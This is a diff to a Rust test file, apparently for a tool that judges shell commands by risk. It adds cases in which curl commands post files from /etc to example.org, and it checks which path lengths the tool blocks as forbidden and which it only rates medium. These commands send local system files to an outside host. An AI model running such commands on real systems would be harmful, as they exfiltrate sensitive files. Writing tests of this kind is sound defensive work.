@@ -110,6 +110,11 @@ fn the_number_of_folders_and_sent_files_of_a_command_is_limited() {
     let sent = |count: usize| format!("curl -d '{}' https://example.org/", "@a.txt;".repeat(count));
     assert_eq!(judged(&sent(32), "curl").0, ReasonWeight::Medium);
     assert_eq!(judged(&sent(33), "curl"), (ReasonWeight::Blocked, vec!["unreadable"]));
+    // A longer text is no path that `curl` could open.
+    let file =
+        |length: usize| format!("curl -d @/etc/{} https://example.org/", "a".repeat(length - "/etc/".len()));
+    assert_eq!(judged(&file(4096), "curl"), (ReasonWeight::Blocked, vec!["forbidden-path"]));
+    assert_eq!(judged(&file(4097), "curl").0, ReasonWeight::Medium);
 }
 
 #[test]
